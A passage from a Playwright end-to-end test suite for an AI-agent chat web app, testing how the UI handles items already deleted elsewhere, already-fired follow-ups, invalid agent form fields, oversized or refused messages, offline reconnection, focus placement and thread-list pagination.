      const schedule = await fx.request('POST', '/api/schedules', { body: { name: 'lapsing', task: 'Ask', timing: { kind: 'cron', cron: '0 9 * * 1', timezone: 'UTC' }, agentId: 'lapsed' } });
      expect(schedule.status, JSON.stringify(schedule.body)).toBe(201);
      const hook = await fx.request('POST', '/api/hooks', { body: { name: 'lapsed hook', taskTemplate: 'Build {{payload.status}}', agentId: 'lapsed' } });
      expect(hook.status, JSON.stringify(hook.body)).toBe(201);

      const page = await openAs(ALICE.token, `#chat/${waiting}`);
      page.on('dialog', (dialog) => void dialog.accept());
      const refusals: string[] = [];
      page.on('response', (response) => {
        if (response.request().method() === 'DELETE') refusals.push(`${response.status()} ${response.url()}`);
      });
      /** The person's Delete reaches the server just after the item was deleted elsewhere (another tab, the API). */
      const deletedJustBefore = (path: string, elsewhere: () => Promise<unknown>) =>
        page.route(`**${path}`, async (route) => {
          if (route.request().method() !== 'DELETE') return route.fallback();
          await elsewhere();
          await route.continue();
        });
      const said = (text: string) => page.getByRole('status').filter({ hasText: text }).waitFor({ timeout: 5_000 });
      const noRefusal = async () => expect(await page.getByRole('alert').filter({ hasText: /Not (deleted|cancelled)/ }).count()).toBe(0);
      /** `card`'s item deleted through the API just as its Delete `button` goes out: the page says `saying` and drops the card. */
      const deleteGoneElsewhere = async (card: ReturnType<typeof page.locator>, path: string, button: string, saying: string) => {
        await card.waitFor();
        await deletedJustBefore(path, () => fx.request('DELETE', path));
        await card.getByRole('button', { name: button }).click();
        await said(saying);
        await card.waitFor({ state: 'detached', timeout: 5_000 });
        await noRefusal();
      };

      // The follow-up: gone from the thread (cancelled and cleaned up elsewhere; the server no longer knows the timer).
      await page.getByRole('button', { name: 'Inspector' }).click();
      const inspector = page.getByRole('complementary', { name: 'Inspector' });
      await inspector.getByRole('button', { name: 'Cancel follow-up' }).waitFor();
      await page.route(`**/api/threads/${waiting}/timers/${timer!.id}`, async (route) => {
        if (route.request().method() !== 'DELETE') return route.fallback();
        expect((await fx.request('DELETE', `/api/threads/${waiting}/timers/${timer!.id}`)).status).toBe(200);
        await route.continue({ url: route.request().url().replace(timer!.id, 'tmr_no_such_timer') });
      });
      await inspector.getByRole('button', { name: 'Cancel follow-up' }).click();
      await said('That follow-up was already gone.');
      await inspector.getByText('None pending.').waitFor({ timeout: 5_000 });
      await noRefusal();

      // A thread in the list.
      const threads = page.getByRole('complementary', { name: 'Threads' });
      await deletedJustBefore(`/api/threads/${doomedThread}`, () => fx.request('DELETE', `/api/threads/${doomedThread}`));
      await threads.getByRole('button', { name: 'Delete Doomed thread' }).click();
      await said('"Doomed thread" was already deleted.');
      await threads.getByRole('button', { name: 'Delete Doomed thread' }).waitFor({ state: 'detached', timeout: 5_000 });
      await noRefusal();

      // A memory.
      await page.goto(`${fx.url}/#memory`);
      await page.getByLabel('Agent').selectOption('lapsed');
      await deleteGoneElsewhere(page.locator('li.card').filter({ hasText: 'Forgotten elsewhere' }), `/api/memories/${memory.body.id}`, 'Delete memory', 'That memory was already deleted.');

      // A schedule.
      await page.goto(`${fx.url}/#schedules`);
      await deleteGoneElsewhere(page.locator('li.card').filter({ hasText: 'lapsing' }), `/api/schedules/${schedule.body.id}`, 'Delete lapsing', 'Schedule "lapsing" was already deleted.');

      // A webhook.
      await page.goto(`${fx.url}/#webhooks`);
      await deleteGoneElsewhere(page.locator('li.card').filter({ hasText: 'lapsed hook' }), `/api/hooks/${hook.body.id}`, 'Delete lapsed hook', 'Webhook "lapsed hook" was already deleted.');

      // An agent.
      await page.goto(`${fx.url}/#agents`);
      await deleteGoneElsewhere(page.locator('li.card').filter({ has: page.getByRole('heading', { name: 'Lapsed too', exact: true }) }), '/api/agents/lapsed-too', 'Delete Lapsed too', 'Agent "Lapsed too" was already deleted.');

      // Each was answered 404 by the server: the page did not skip the request.
      expect(refusals.filter((line) => line.startsWith('404 '))).toHaveLength(6);
      await page.close();
    });

    it('Cancel on a follow-up that already ran (409 TIMER_NOT_PENDING) is no error: the inspector drops it and says it already ran', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'overtaken', name: 'Overtaken', autonomy: quickFollowUps(600_000) } })).status).toBe(201);
      const threadId = await thread({ agentId: 'overtaken', title: 'Overtaken thread' });
      expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'hello' } })).status).toBe(200);
      const timer = ((await fx.request('GET', `/api/threads/${threadId}/timers`)).body.timers as Json[]).find((candidate) => candidate.state === 'pending');
      expect(timer).toBeDefined();
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      await page.getByRole('button', { name: 'Inspector' }).click();
      const inspector = page.getByRole('complementary', { name: 'Inspector' });
      const cancel = inspector.getByRole('button', { name: 'Cancel follow-up' });
      await cancel.waitFor();
      // The follow-up comes due just as the person's Cancel goes out: the firer takes it first (pending → fired).
      await page.route(`**/api/threads/${threadId}/timers/${timer!.id}`, async (route) => {
        if (route.request().method() !== 'DELETE') return route.fallback();
        const now = new Date().toISOString();
        const fired = await new SqlTimerRepository((fx.storage as SqlStorage).context).transition(timer!.id, 'pending', 'fired', { firedAt: now, stateReason: null }, now);
        expect(fired?.state).toBe('fired');
        await route.continue();
      });
      const answered = page.waitForResponse((response) => response.request().method() === 'DELETE' && response.url().includes(timer!.id));
      await cancel.click();
      const refusal = await answered;
      expect(refusal.status()).toBe(409);
      expect(((await refusal.json()) as Json).error.code).toBe('TIMER_NOT_PENDING');
      // Said plainly (role=status), not shown as a refusal (role=alert) next to the button.
      const said = page.getByRole('status').filter({ hasText: 'That follow-up already ran' });
      await said.or(inspector.getByRole('alert')).first().waitFor({ timeout: 5_000 });
      expect(await inspector.getByRole('alert').allTextContents()).toEqual([]);
      await said.waitFor();
      await inspector.getByText('None pending.').waitFor({ timeout: 5_000 });
      await page.close();
    });

    it('the agent form that cannot load says why and offers Try again, which opens it once the agent can be read', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'flaky', name: 'Flaky' } })).status).toBe(201);
      const page = await openAs(ALICE.token, '#agents');
      const edit = page.getByRole('button', { name: 'Edit Flaky' });
      await edit.waitFor();
      // Deleted elsewhere after this page listed it: what the form starts from cannot be read.
      expect((await fx.request('DELETE', '/api/agents/flaky')).status).toBe(204);
      const refused = await fx.request('GET', '/api/agents/flaky/autonomy');
      expect(refused.status).toBe(404);
      await edit.click();
      const alert = page.getByRole('alert').filter({ hasText: 'Flaky could not be loaded' });
      await alert.waitFor({ timeout: 5_000 });
      await expect(alert.textContent()).resolves.toContain(`${refused.body.error.code}: ${refused.body.error.message}`);
      // Made again elsewhere: trying again opens the form.
      expect((await fx.request('POST', '/api/agents', { body: { id: 'flaky', name: 'Flaky' } })).status).toBe(201);
      await page.getByRole('button', { name: 'Try again' }).click();
      const form = page.getByRole('form', { name: 'Edit Flaky' });
      await form.waitFor({ timeout: 5_000 });
      await expect(form.getByLabel('Name').inputValue()).resolves.toBe('Flaky');
      await alert.waitFor({ state: 'detached' });
      await page.close();
    });

    it('a refused planner setting stops being flagged once the field changes, and a refused save after it names only what is still wrong', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'stale-planner', name: 'Stale Planner', kind: 'planner' } })).status).toBe(201);
      const page = await openAs(ALICE.token, '#agents');
      await page.getByRole('button', { name: 'Edit Stale Planner' }).click();
      const form = page.getByRole('form', { name: 'Edit Stale Planner' });
      const settings = form.getByLabel(/Planner settings/);
      await settings.waitFor();
      await settings.fill(JSON.stringify({ budgets: { maxSteps: 'lots' } }));
      await form.getByRole('button', { name: 'Save agent' }).click();
      await expect(form.locator('#agent-planner-error').textContent()).resolves.toContain('/budgets/maxSteps');
      await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === 'agent-planner', 5_000, 'the focus on the refused settings');
      await settings.pressSequentially(' ');
      await form.locator('#agent-planner-error').waitFor({ state: 'detached', timeout: 5_000 });
      expect(await settings.getAttribute('aria-invalid')).toBe('false');
      // Fixed, but the save is refused for another field: the settings are not flagged again.
      await settings.fill(JSON.stringify({ budgets: { maxToolCalls: 5 } }));
      await form.getByLabel('Model').fill('gpt-4');
      await form.getByRole('button', { name: 'Save agent' }).click();
      await form.locator('#agent-model-error').waitFor();
      expect(await form.locator('#agent-planner-error').count()).toBe(0);
      await form.getByLabel('Model').fill('');
      await form.getByRole('button', { name: 'Save agent' }).click();
      await form.waitFor({ state: 'detached' });
      expect((await fx.request('GET', '/api/agents/stale-planner/planner')).body.budgets).toMatchObject({ maxToolCalls: 5 });
      await page.close();
    });

    it("the agent form's general refusal (not a field's) goes once the person edits any field", async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'edited-away', name: 'Edited Away' } })).status).toBe(201);
      const page = await openAs(ALICE.token, '#agents');
      await page.getByRole('button', { name: 'Edit Edited Away' }).click();
      const form = page.getByRole('form', { name: 'Edit Edited Away' });
      await form.getByLabel('Name').waitFor();
      // Deleted elsewhere while the form is open: the save is refused, not for one field.
      expect((await fx.request('DELETE', '/api/agents/edited-away')).status).toBe(204);
      const general = form.getByRole('alert').filter({ hasText: 'NOT_FOUND' });
      await form.getByRole('button', { name: 'Save agent' }).click();
      await general.waitFor({ timeout: 5_000 });
      await form.getByLabel('Name').pressSequentially(' again');
      await general.waitFor({ state: 'detached', timeout: 5_000 });
      // Refused again: said again, and a checkbox counts as an edit too.
      await form.getByRole('button', { name: 'Save agent' }).click();
      await general.waitFor({ timeout: 5_000 });
      await form.getByLabel('Follow up on its own').check();
      await general.waitFor({ state: 'detached', timeout: 5_000 });
      await page.close();
    });

    it('a failed follow-up says it was the follow-up that failed, and offers no Retry that would resend the person\'s message', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'fragile', name: 'Fragile', model: 'openai:fragile', autonomy: quickFollowUps(1500) } })).status).toBe(201);
      const threadId = await thread({ agentId: 'fragile', title: 'Fragile' });
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      const log = page.getByRole('log', { name: 'Conversation' });
      try {
        await page.getByRole('textbox', { name: 'Message' }).fill('I will think about it');
        await page.getByRole('textbox', { name: 'Message' }).press('Enter');
        await log.locator('article.assistant:not(.streaming)').waitFor();
        fragileDown = true; // the provider goes down before the follow-up is due
        const alert = page.getByRole('alert').filter({ hasText: 'MODEL_ERROR' });
        await alert.waitFor({ timeout: 20_000 });
        await expect(alert.textContent()).resolves.toMatch(/follow-up/i);
        expect(await alert.getByRole('button', { name: 'Retry' }).count()).toBe(0);
        const runs = (await fx.request('GET', `/api/threads/${threadId}/runs`)).body.runs as Json[];
        expect(runs.find((run) => run.trigger === 'autonomy')).toMatchObject({ status: 'failed' });
        expect(runs.filter((run) => run.trigger === 'user')).toHaveLength(1);
      } finally {
        fragileDown = false;
      }
      await page.close();
    });

    it('a follow-up that failed while its thread was not open is said when the thread is opened, until something newer happens', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'fragile-away', name: 'Fragile away', model: 'openai:fragile', autonomy: quickFollowUps(1500) } })).status).toBe(201);
      const threadId = await thread({ agentId: 'fragile-away', title: 'Failed while away' });
      expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'I will think about it' } })).status).toBe(200);
      try {
        fragileDown = true; // the provider goes down before the follow-up is due; nobody has the thread open
        await waitFor(
          async () => ((await fx.request('GET', `/api/threads/${threadId}/runs`)).body.runs as Json[])[0]?.status === 'failed',
          20_000,
          'the follow-up to fail',
        );
      } finally {
        fragileDown = false;
      }
      const failed = ((await fx.request('GET', `/api/threads/${threadId}/runs`)).body.runs as Json[])[0]!;
      expect(failed).toMatchObject({ trigger: 'autonomy', status: 'failed' });
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      const alert = page.getByRole('alert').filter({ hasText: (failed.error as Json).code as string });
      await alert.waitFor({ timeout: 5_000 });
      await expect(alert.textContent()).resolves.toMatch(/follow-up failed/i);
      await expect(alert.textContent()).resolves.toContain((failed.error as Json).message as string);
      expect(await alert.getByRole('button', { name: 'Retry' }).count()).toBe(0);
      await page.close();

      // Answered since: opening it again says nothing of the old failure.
      expect((await fx.request('POST', `/api/threads/${threadId}/messages`, { body: { content: 'Here I am' } })).status).toBe(200);
      const again = await openAs(ALICE.token, '#agents');
      const runsRead = again.waitForResponse((response) => response.url().endsWith(`/api/threads/${threadId}/runs?limit=100`));
      await again.evaluate(`location.hash = ${JSON.stringify(`chat/${threadId}`)}`);
      const log = again.getByRole('log', { name: 'Conversation' });
      await log.locator('article.user').filter({ hasText: 'Here I am' }).waitFor();
      await log.locator('article.assistant').nth(1).waitFor();
      await runsRead;
      await frames(again);
      expect(await again.getByRole('alert').count()).toBe(0);
      await again.close();
    });

    it('a message longer than the API takes stays in the box, refused in plain words with no Retry; one the server refuses goes back to the box', async () => {
      const threadId = await thread({ title: 'Too long' });
      const frames: Json[] = [];
      let refuseNext = false;
      const page = await openAs(ALICE.token, `#chat/${threadId}`, (opening) =>
        // The page's WebSocket through the test: every frame it sends is seen, and one can be refused as the server would.
        opening.routeWebSocket(/\/api\/ws/, (ws) => {
          const server = ws.connectToServer();
          ws.onMessage((message) => {
            const frame = JSON.parse(String(message)) as Json;
            frames.push(frame);
            if (frame.type !== 'message.send' || !refuseNext) return server.send(message);
            refuseNext = false;
            ws.send(JSON.stringify({ type: 'error', at: new Date().toISOString(), code: 'RUN_CANCELLED', message: 'the server is stopping', threadId, requestId: frame.requestId }));
          });
        }),
      );
      const box = page.getByRole('textbox', { name: 'Message' });
      const log = page.getByRole('log', { name: 'Conversation' });
      await box.fill('z'.repeat(100_001));
      await page.getByRole('button', { name: 'Send' }).click();
      const limit = page.getByRole('alert').filter({ hasText: 'a message can be at most 100,000 characters long, and this one has 100,001' });
      await limit.waitFor({ timeout: 2_000 });
      expect((await box.inputValue()).length).toBe(100_001);
      expect(frames.filter((frame) => frame.type === 'message.send')).toEqual([]);
      expect(await page.getByRole('button', { name: 'Retry' }).count()).toBe(0);
      // Short enough: the note goes. Refused by the server once sent: back in the box, the refusal said, no Retry.
      refuseNext = true;
      await box.fill('a message refused once');
      await limit.waitFor({ state: 'detached' });
      await page.getByRole('button', { name: 'Send' }).click();
      const refusal = page.getByRole('alert').filter({ hasText: 'Your message was not sent; it is back in the message box.' });
      await refusal.waitFor();
      expect(await box.inputValue()).toBe('a message refused once');
      expect(await refusal.getByRole('button', { name: 'Retry' }).count()).toBe(0);
      expect(await log.locator('article.user').count()).toBe(0);
      // Sent again, it is taken: it lands once, and the box is empty.
      await page.getByRole('button', { name: 'Send' }).click();
      await log.locator('article.assistant', { hasText: 'a message refused once' }).waitFor();
      expect(await log.locator('article.user').allTextContents()).toEqual([expect.stringContaining('a message refused once')]);
      expect(await box.inputValue()).toBe('');
      await page.close();
    });

    it('an error that names no message on its way (a cancel that came too late) leaves a message on its way alone: it is not put back in the box', async () => {
      const threadId = await thread({ title: 'Late cancel' });
      let held: string | undefined;
      let release: () => void = () => undefined;
      let refuseOther: (() => void) | undefined;
      const page = await openAs(ALICE.token, `#chat/${threadId}`, (opening) =>
        // The page's WebSocket through the test: its message is held on the way, and meanwhile the server answers another frame with an error.
        opening.routeWebSocket(/\/api\/ws/, (ws) => {
          const server = ws.connectToServer();
          refuseOther = () => ws.send(JSON.stringify({ type: 'error', at: new Date().toISOString(), code: 'RUN_NOT_FOUND', message: 'no run "gone"' }));
          release = () => server.send(held!);
          ws.onMessage((message) => {
            const frame = JSON.parse(String(message)) as Json;
            if (frame.type === 'message.send' && held === undefined) held = String(message);
            else server.send(message);
          });
        }),
      );
      const box = page.getByRole('textbox', { name: 'Message' });
      const log = page.getByRole('log', { name: 'Conversation' });
      await box.fill('a message on its way');
      await page.getByRole('button', { name: 'Send' }).click();
      await log.locator('article.pending', { hasText: 'a message on its way' }).waitFor();
      refuseOther!();
      await page.getByRole('alert').filter({ hasText: 'RUN_NOT_FOUND' }).waitFor();
      expect(await page.getByRole('alert').filter({ hasText: 'Your message was not sent' }).count()).toBe(0);
      expect(await box.inputValue()).toBe('');
      expect(await log.locator('article.pending', { hasText: 'a message on its way' }).count()).toBe(1);
      // It goes on: it lands once, and is answered.
      release();
      await log.locator('article.assistant', { hasText: 'a message on its way' }).waitFor();
      expect(await log.locator('article.user').allTextContents()).toEqual([expect.stringContaining('a message on its way')]);
      expect(await log.locator('article.pending').count()).toBe(0);
      // What told the two apart: the message went out named.
      expect(JSON.parse(held!)).toMatchObject({ type: 'message.send', content: 'a message on its way', requestId: expect.any(String) });
      await page.close();
    });

    it('long unbroken text (5,000 letters, a long URL) wraps within its message; a wide code block scrolls within itself', async () => {
      expect((await fx.request('POST', '/api/agents', { body: { id: 'wide', name: 'Wide', model: 'openai:wide' } })).status).toBe(201);
      const threadId = await thread({ agentId: 'wide', title: 'Wide' });
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      await page.getByRole('textbox', { name: 'Message' }).fill('z'.repeat(5000));
      await page.getByRole('button', { name: 'Send' }).click();
      await page.getByRole('log', { name: 'Conversation' }).locator('article.assistant:not(.streaming) pre').waitFor();
      const widths = (await page.evaluate(`(() => {
        const over = (element) => element.scrollWidth - element.clientWidth;
        const log = document.querySelector('[role=log]');
        const pre = log.querySelector('article.assistant pre');
        return { page: over(document.documentElement), log: over(log), messages: [...log.querySelectorAll('article')].map(over), pre: over(pre), preFocusable: pre.tabIndex === 0 };
      })()`)) as { page: number; log: number; messages: number[]; pre: number; preFocusable: boolean };
      expect(widths).toMatchObject({ page: 0, log: 0, messages: [0, 0], preFocusable: true });
      expect(widths.pre).toBeGreaterThan(0); // the code keeps its line, and scrolls
      await page.close();
    });

    it('the server out of reach: "Offline — reconnecting…" is said until it is back; a message sent meanwhile shows pending (or is taken back), then lands', async () => {
      const threadId = await thread({ title: 'Offline' });
      const page = await openAs(ALICE.token, `#chat/${threadId}`);
      try {
        const log = page.getByRole('log', { name: 'Conversation' });
        const box = page.getByRole('textbox', { name: 'Message' });
        await log.getByText('Say something to').waitFor();
        const offline = page.getByRole('status').filter({ hasText: 'Offline — reconnecting…' });
        expect(await offline.count()).toBe(0);
        // The network goes (the socket is dropped, and reconnecting fails until it is back).
        await page.context().setOffline(true);
        for (const client of fx.app.websocketServer.clients) client.terminate();
        // Said at the socket's close; the wait is long only for a machine busy with the whole suite (it once took over 5 s there).
        await offline.waitFor({ timeout: 15_000 });
        await box.fill('not this one after all');
        await box.press('Enter');
        const held = log.locator('article.pending', { hasText: 'waiting for the connection' });
        await held.filter({ hasText: 'not this one after all' }).getByRole('button', { name: "Don't send" }).click();
        expect(await box.inputValue()).toBe('not this one after all');
        await box.fill('sent while offline');
        await box.press('Enter');
        await held.filter({ hasText: 'sent while offline' }).waitFor();
        expect(await log.locator('article.pending').count()).toBe(1);
        await page.context().setOffline(false);
        await offline.waitFor({ state: 'detached', timeout: 15_000 });
        await log.locator('article.assistant', { hasText: 'sent while offline' }).waitFor();
        expect(await log.locator('article.pending').count()).toBe(0);
        expect(await log.locator('article.user').allTextContents()).toEqual([expect.stringContaining('sent while offline')]);
      } finally {
        await page.close(); // offline, it would keep the server from stopping
      }
    });

    it('opening a thread puts the keyboard focus in its message box', async () => {
      await thread({ title: 'Focus me' });
      const page = await openAs(ALICE.token, '#chat');
      await page.getByRole('complementary', { name: 'Threads' }).getByRole('button', { name: /^Focus me/ }).click();
      await page.getByRole('textbox', { name: 'Message' }).waitFor();
      await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === 'message', 5_000, 'the focus in the message box');
      await page.close();
    });

    it('the page has an inline icon: nothing it asks for is missing (no /favicon.ico 404)', async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      const missing: string[] = [];
      page.on('response', (response) => {
        if (response.status() === 404) missing.push(response.url());
      });
      await page.goto(`${fx.url}/`);
      await page.getByLabel('Access token').waitFor();
      await page.waitForLoadState('networkidle');
      expect(await page.locator('link[rel="icon"]').count()).toBe(1);
      expect(await page.locator('link[rel="icon"]').getAttribute('href')).toMatch(/^data:image\//);
      expect(missing).toEqual([]);
      await context.close();
    });

    it('the agent form takes the focus at its first field, and after a refusal at the first field in error', async () => {
      const page = await openAs(ALICE.token, '#agents');
      await page.getByRole('button', { name: 'New agent' }).click();
      const form = page.getByRole('form', { name: 'New agent' });
      await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === 'agent-id', 5_000, 'the focus on the Id field');
      await form.getByLabel('Id').fill('Not Valid!');
      await form.getByLabel('Name').fill('Focused');
      await form.getByLabel('Model').fill('gpt-4');
      await form.getByRole('button', { name: 'Save agent' }).click();
      await form.locator('#agent-id-error').waitFor();
      await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === 'agent-id', 5_000, 'the focus on the refused Id');
      await expect(form.getByLabel('Id').getAttribute('aria-describedby')).resolves.toContain('agent-id-error');
      await form.getByLabel('Id').fill('focused');
      await form.getByRole('button', { name: 'Save agent' }).click();
      await form.locator('#agent-id-error').waitFor({ state: 'detached' });
      await waitFor(async () => (await page.evaluate('document.activeElement?.id')) === 'agent-model', 5_000, 'the focus on the refused Model');
      await page.close();
    });

    it('the thread list shows more on request, and a thread linked directly that is not on its first page opens', async () => {
      const far = await thread({ title: 'Far back' }, CAROL.token);
      for (let index = 0; index < 105; index++) await thread({ title: `Filler ${index}` }, CAROL.token);
      const page = await openAs(CAROL.token, `#chat/${far}`);
      await page.getByRole('heading', { level: 1, name: 'Far back' }).waitFor({ timeout: 5_000 });
      await page.getByRole('textbox', { name: 'Message' }).waitFor();
      const threads = page.getByRole('complementary', { name: 'Threads' });
      const items = threads.locator('.thread-list > li');
      await items.first().waitFor();
      const more = threads.getByRole('button', { name: 'Show more threads' });
      await waitFor(
        async () => {
          if ((await items.count()) >= 106) return true;
          if ((await more.count()) > 0) await more.click({ timeout: 2_000 }).catch(() => undefined);
          return false;
        },
        15_000,
        'every thread listed',
      );
      expect(await items.count()).toBe(106);
      expect(await threads.getByRole('button', { name: /^Far back/ }).count()).toBe(1);
      await more.waitFor({ state: 'detached' });
      await page.close();
    });
  });
});
